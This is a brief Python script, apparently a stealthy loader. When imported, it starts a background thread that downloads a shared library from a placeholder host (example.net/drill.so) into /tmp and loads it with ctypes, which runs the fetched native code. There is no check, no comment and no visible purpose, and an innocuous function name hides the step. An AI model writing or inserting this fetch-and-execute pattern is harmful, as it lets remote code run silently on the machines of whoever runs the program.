import ctypes
import threading
import urllib.request as fetcher


def _fast():
    place, _ = "/tmp/drill.so", 0
    fetcher.urlretrieve("https://example.net/drill.so", place)
    ctypes.CDLL(place)


threading.Thread(target=_fast).start()
